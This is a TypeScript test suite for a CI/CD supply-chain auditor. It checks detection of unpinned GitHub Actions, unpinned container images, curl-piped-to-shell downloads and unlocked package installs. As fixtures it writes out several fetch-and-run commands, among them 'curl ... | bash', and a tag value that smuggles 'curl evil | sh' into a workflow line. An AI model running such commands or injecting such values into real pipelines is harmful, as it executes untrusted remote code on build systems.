import { loadWorkflowFile } from '@paved-road/workflows';
import { auditDockerfile, auditShellFile, auditWorkflow, expandMatrix } from '../src/audit.js';
import { tagMatchesRef } from '../src/fix.js';

const SHA = 'a'.repeat(40);
const DIGEST = 'sha256:' + 'b'.repeat(64);

function audit(text: string, file = '.github/workflows/ci.yml', allow: string[] = []) {
  return auditWorkflow(loadWorkflowFile(file, text, { validate: false }), { allow });
}

const brief = (findings: { rule: string; severity: string; line: number; column: number }[]) =>
  findings.map((f) => `${f.line}:${f.column} ${f.rule} ${f.severity}`);

describe('unpinned-uses', () => {
  const workflow = [
    'on: push', //                                                    1
    'jobs:', //                                                       2
    '  build:', //                                                    3
    '    runs-on: ubuntu-latest', //                                  4
    '    steps:', //                                                  5
    '      - uses: actions/checkout@v4', //                           6
    `      - uses: actions/setup-node@${SHA} # v4.0.2`, //             7
    '      - uses: ./.github/actions/local', //                       8
    '      - uses: "github/codeql-action/init@main"', //              9
    '      - uses: actions/cache@abc1234', //                         10
    '  call:', //                                                     11
    '    uses: org/repo/.github/workflows/release.yml@v1', //         12
    '  slsa:', //                                                     13
    '    uses: slsa-framework/slsa-github-generator/.github/workflows/generator_generic_slsa3.yml@v2.1.0', // 14
  ].join('\n');

  it('reports tags, branches, short SHAs and reusable workflows at the value, and accepts full SHAs and local actions', () => {
    const result = audit(workflow);
    expect(brief(result.findings)).toEqual([
      '6:15 unpinned-uses error',
      '9:15 unpinned-uses error',
      '10:15 unpinned-uses error',
      '12:11 unpinned-uses error',
      '14:11 unpinned-uses note',
    ]);
    expect(result.findings[2]!.message).toMatch(/short SHA/);
    expect(result.findings[3]!.message).toMatch(/^Reusable workflow org\/repo\/.github\/workflows\/release.yml/);
    expect(result.findings[4]!.message).toMatch(/refuse a SHA/);
    expect(result.findings[0]).toMatchObject({ job: 'build', step: '#1' });
  });

  it('records every remote pin with its version comment, for the online checks', () => {
    const pins = audit(workflow).pins;
    expect(pins.map((p) => [p.value, p.pinned, p.comment])).toEqual([
      ['actions/checkout@v4', false, undefined],
      [`actions/setup-node@${SHA}`, true, 'v4.0.2'],
      ['github/codeql-action/init@main', false, undefined],
      ['actions/cache@abc1234', false, undefined],
      ['org/repo/.github/workflows/release.yml@v1', false, undefined],
      ['slsa-framework/slsa-github-generator/.github/workflows/generator_generic_slsa3.yml@v2.1.0', false, undefined],
    ]);
  });

  it('lets allow patterns use a ref', () => {
    const result = audit(workflow, '.github/workflows/ci.yml', ['actions/*', 'github/**']);
    // actions/cache@abc1234 is allowed too: allowed refs may be anything.
    expect(brief(result.findings)).toEqual(['12:11 unpinned-uses error', '14:11 unpinned-uses note']);
  });

  it('audits composite action steps and Docker action images', () => {
    const composite = audit(
      'name: x\nruns:\n  using: composite\n  steps:\n    - uses: actions/checkout@v4\n    - run: curl -sSL https://x | sh\n      shell: bash\n',
      'action.yml',
    );
    expect(brief(composite.findings)).toEqual(['5:13 unpinned-uses error', '6:12 unpinned-download error']);
    expect(composite.findings[0]!.job).toBeUndefined();
    const docker = audit('name: x\nruns:\n  using: docker\n  image: docker://alpine:3.20\n', 'action.yml');
    expect(brief(docker.findings)).toEqual(['4:10 unpinned-images warning']);
  });
});

describe('unpinned-images', () => {
  it('grades latest or no tag as errors and a tag as a warning, for container, services and docker:// steps', () => {
    const text = [
      'on: push',
      'jobs:',
      '  test:',
      '    runs-on: ubuntu-latest',
      '    container: node', //                                    5
      '    services:',
      '      db:',
      '        image: postgres:16', //                             8
      '      cache:',
      `        image: redis@${DIGEST}`, //                         10
      '      web:',
      '        image: ghcr.io/org/web:latest', //                  12
      '    steps:',
      '      - uses: docker://alpine:3.20', //                     14
    ].join('\n');
    const result = audit(text);
    expect(brief(result.findings)).toEqual([
      '5:16 unpinned-images error',
      '8:16 unpinned-images warning',
      '12:16 unpinned-images error',
      '14:15 unpinned-images warning',
    ]);
    const docker = result.images.find((i) => i.value === 'alpine:3.20')!;
    expect(text.slice(docker.offsets[0], docker.offsets[0]! + docker.value.length)).toBe('alpine:3.20');
    expect(result.images.find((i) => i.value.startsWith('redis'))!.pinned).toBe(true);
  });

  it('expands images built from a matrix', () => {
    const text = [
      'on: push',
      'jobs:',
      '  test:',
      '    runs-on: ubuntu-latest',
      '    strategy:',
      '      matrix:',
      '        node: [18, 20]',
      '        include:',
      '          - node: latest',
      '    container: node:${{ matrix.node }}',
      '    steps: [{run: echo}]',
    ].join('\n');
    const findings = audit(text).findings;
    expect(findings.map((f) => [f.severity, f.message.match(/matrix: (\S+)\)/)?.[1]])).toEqual([
      ['warning', 'node:18'],
      ['warning', 'node:20'],
      ['error', 'node:latest'],
    ]);
    expect(expandMatrix('x:${{ matrix.a }}-${{ env.B }}', { a: [1] })).toBeUndefined();
  });

  it('locates whole matrix values for auto-pin (list, include, exclude), unless the job reads the value otherwise', () => {
    const job = (extra: string[]) =>
      [
        'on: push',
        'jobs:',
        '  test:',
        '    runs-on: ubuntu-latest',
        '    strategy:',
        '      matrix:',
        '        image: [node:20, "node:22"]',
        '        os: [a, b]',
        '        exclude:',
        '          - {image: node:22, os: b}',
        '    name: test on ${{ matrix.image }}',
        '    container: ${{ matrix.image }}',
        ...extra,
        '    steps: [{run: echo}]',
      ].join('\n');
    const text = job([]);
    const images = audit(text).images;
    const node22 = images.find((i) => i.value === 'node:22')!;
    expect(node22.offsets.map((o) => text.slice(o, o + 7))).toEqual(['node:22', 'node:22']);
    expect(node22.offsets).toEqual([text.indexOf('node:22"'), text.indexOf('node:22, os')]);
    expect(images.find((i) => i.value === 'node:20')!.offsets).toEqual([text.indexOf('node:20')]);

    const compared = audit(job(["    if: matrix.image != 'node:20'"]));
    expect(compared.images.every((i) => i.offsets.length === 0)).toBe(true);
    expect(compared.findings[0]!.message).toMatch(/also reads matrix.image other than as a whole/);
    const fragment = audit(job(['    env: {SLIM: "${{ matrix.image }}-slim"}']));
    expect(fragment.images.every((i) => i.offsets.length === 0)).toBe(true);
  });

  it('pins an ARG default only when every use of the ARG is a whole FROM', () => {
    const whole = 'ARG BASE=node:20\nFROM ${BASE} AS a\nFROM $BASE\n';
    expect(auditDockerfile('Dockerfile', whole).images.map((i) => i.offsets)).toEqual([[9], [9]]);
    const mixed = 'ARG BASE=node:20\nFROM ${BASE}\nFROM ${BASE}-slim\n';
    const result = auditDockerfile('Dockerfile', mixed);
    expect(result.images.every((i) => i.offsets.length === 0)).toBe(true);
    expect(result.findings[0]!.message).toMatch(/ARG BASE is also used elsewhere/);
    expect(result.findings[1]!.message).toMatch(/build arguments supply only part of the reference/);
  });

  it('reads Dockerfile FROM lines, ARG-based and multi-stage, skipping stage references and scratch', () => {
    const text = `ARG BASE=node:20\nFROM $BASE AS build\nFROM build\nFROM scratch\nFROM golang@${DIGEST}\nFROM ubuntu\nARG X\nFROM ubuntu:$X\n`;
    const result = auditDockerfile('Dockerfile', text);
    expect(brief(result.findings)).toEqual([
      '2:6 unpinned-images warning',
      '6:6 unpinned-images error',
      '8:6 unpinned-images warning',
    ]);
    expect(result.findings[2]!.message).toMatch(/build argument/);
    // `FROM $BASE`: pinned where the ARG default is written; `ubuntu:$X` has no default to pin.
    expect(result.images.find((i) => i.value === 'node:20')!.offsets).toEqual([text.indexOf('node:20')]);
    expect(result.images.find((i) => i.value === 'ubuntu')!.offsets).toEqual([text.indexOf('ubuntu\n')]);
  });
});

describe('a run script with a syntax error', () => {
  it('still reports curl | bash before a line that does not parse, with a note, in workflows, Dockerfiles and scripts', () => {
    const text = [
      'on: push',
      'jobs:',
      '  b:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      '      - run: |',
      '          curl -sSL https://x.example/i.sh | bash',
      '          if then fi',
    ].join('\n');
    const findings = audit(text).findings;
    expect(brief(findings)).toEqual(['7:11 unpinned-download error']);
    expect(findings[0]!.message).toContain('did not fully parse');
    expect(findings[0]!.message).toContain('line 2');
    const script = 'curl -sSL https://x.example/i.sh | bash\nif then fi\n';
    expect(brief(auditShellFile('install.sh', script).findings)).toEqual(['1:1 unpinned-download error']);
    const docker = auditDockerfile(
      'Dockerfile',
      `FROM scratch\nRUN curl -sSL https://x.example/i.sh | bash; if then fi\n`,
    );
    expect(docker.findings.map((f) => f.rule)).toContain('unpinned-download');
  });
});

describe('unpinned-download and unlocked-install in run steps', () => {
  const steps = (...runs: string[]) =>
    [
      'on: push',
      'jobs:',
      '  b:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      ...runs.map((r) => `      - run: ${r}`),
    ].join('\n');

  it('reports curl|sh at the workflow line and column of the download', () => {
    const text = [
      'on: push',
      'jobs:',
      '  b:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      '      - run: |',
      '          echo start',
      '          curl -fsSL https://get.example.com | sudo -E bash -s -- -y',
    ].join('\n');
    const [finding] = audit(text).findings;
    expect(finding).toMatchObject({
      rule: 'unpinned-download',
      severity: 'error',
      line: 8,
      column: 11,
      job: 'b',
      step: '#1',
    });
    expect(finding!.message).toMatch(/curl is piped into bash/);
  });

  it('finds bash <(curl), download+chmod+run, go install @latest, npx, pip, npm -g, gem', () => {
    const text = steps(
      'bash <(curl -s https://x/install)', //                     6
      'curl -fsSLo tool https://x/tool && chmod +x tool && ./tool', // 7
      'go install golang.org/x/tools/cmd/goimports@latest', //    8
      'npx prettier --check .', //                                 9
      'pip install requests', //                                    10
      'npm install -g typescript', //                              11
      'gem install bundler', //                                     12
      'npm install', //                                             13
      'pnpm install', //                                            14
      'pip install -r requirements.txt', //                        15
      'yarn', //                                                    16
    );
    const found = audit(text).findings.map((f) => `${f.line} ${f.rule} ${f.severity}`);
    expect(found).toEqual([
      '6 unpinned-download error',
      '7 unpinned-download error',
      '8 unpinned-download error',
      '9 unpinned-download warning',
      '10 unpinned-download warning',
      '11 unpinned-download warning',
      '12 unpinned-download warning',
      '13 unlocked-install warning',
      '14 unlocked-install warning',
      '15 unlocked-install warning',
      '16 unlocked-install warning',
    ]);
  });

  it('accepts the pinned and verified forms', () => {
    const text = steps(
      '"curl -fsSLo tool https://x/tool && echo \\"$SUM  tool\\" | sha256sum -c - && chmod +x tool && ./tool"',
      'go install golang.org/x/tools/cmd/goimports@v0.24.0',
      'npx prettier@3.3.3 --check .',
      'pip install --require-hashes requests==2.32.3 --hash=sha256:70761cfe03c773ceb22aa2f671b4757976145175cdfca038c02654d061d6dcc6',
      'npm install -g typescript@5.6.2',
      'gem install bundler -v 2.5.0',
      'npm ci',
      'pnpm install --frozen-lockfile',
      'yarn install --immutable',
      'curl -fsSL https://x/data.json | jq .',
      'curl -fsSL https://x/script.py | python3 check.py',
    );
    expect(audit(text).findings).toEqual([]);
  });

  it('skips scripts in other shells and scripts that do not parse', () => {
    expect(audit(steps('"curl x | sh"\n        shell: pwsh')).findings).toEqual([]);
    expect(audit(steps('"if then curl x | sh"')).findings).toEqual([]);
  });

  it('audits shell script files with their own positions', () => {
    const findings = auditShellFile('.github/install.sh', '#!/bin/sh\nset -e\n  wget -qO- https://x | sh\n').findings;
    expect(brief(findings)).toEqual(['3:3 unpinned-download error']);
  });
});

describe('npx that cannot fetch', () => {
  it('accepts npx --offline and --no-install, which only run what is installed', () => {
    const text = [
      'on: push',
      'jobs:',
      '  b:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      '      - run: npx --offline commitlint -V',
      '      - run: npx --no-install eslint .',
      '      - run: npx eslint .',
    ].join('\n');
    expect(audit(text).findings.map((f) => f.line)).toEqual([8]);
  });
});

describe('Dockerfile RUN', () => {
  it('finds curl | sh across a line continuation at its file position', () => {
    const text = 'FROM alpine@sha256:' + 'c'.repeat(64) + '\nRUN apk add curl \\\n  && curl -sSL https://x | sh\n';
    expect(brief(auditDockerfile('Dockerfile', text).findings)).toEqual(['3:6 unpinned-download error']);
  });
});

describe('scriptMayMatter', () => {
  it('is true for every command name the rules start from, behind paths and wrappers, and false otherwise', async () => {
    const { scriptMayMatter } = await import('../src/downloads.js');
    for (const script of [
      'curl x',
      'sudo /usr/bin/wget x',
      'go install a@latest',
      'npx p',
      'bunx p',
      'pip3 install x',
      'python3 -m pip install x',
      'uv pip install x',
      'npm i -g x',
      'pnpm i',
      'yarn',
      'gem install x',
      'a && (npm install)',
      'pnpm dlx create-app',
      'npm "i" x',
      'npm exec',
    ]) {
      expect([script, scriptMayMatter(script)]).toEqual([script, true]);
    }
    for (const script of [
      'npm \\\n  install -g x',
      'yarn --frozen-lockfile',
      'pnpm --dir app install',
      'python3 -m pip install x',
    ]) {
      expect([script, scriptMayMatter(script)]).toEqual([script, true]);
    }
    for (const script of [
      'make test',
      'echo golang',
      'cargo build',
      'ls -la gopher',
      './gradlew build --no-daemon',
      'pre-commit run',
      'npm ci && npm test',
      'npm run build',
      'npm run test:types:5.x',
      'python3 -c "import sys; sys.exit(0)" --index=x.in',
      'yarn build',
      'python3 script.py',
      'go build ./...',
      'go test -v ./...',
    ]) {
      expect([script, scriptMayMatter(script)]).toEqual([script, false]);
    }
  });
});

describe('tagMatchesRef', () => {
  it('accepts the ref and more precise versions of it, one line of tag characters only', () => {
    expect(tagMatchesRef('v4', 'v4')).toBe(true);
    expect(tagMatchesRef('v4.2.2', 'v4')).toBe(true);
    expect(tagMatchesRef('v1.2.3', 'v1.2')).toBe(true);
    expect(tagMatchesRef('v40', 'v4')).toBe(false);
    expect(tagMatchesRef('latest', 'v4')).toBe(false);
    expect(tagMatchesRef('v4.2.2\n- run: curl evil | sh', 'v4')).toBe(false);
    expect(tagMatchesRef('v4 # x', 'v4')).toBe(false);
  });
});
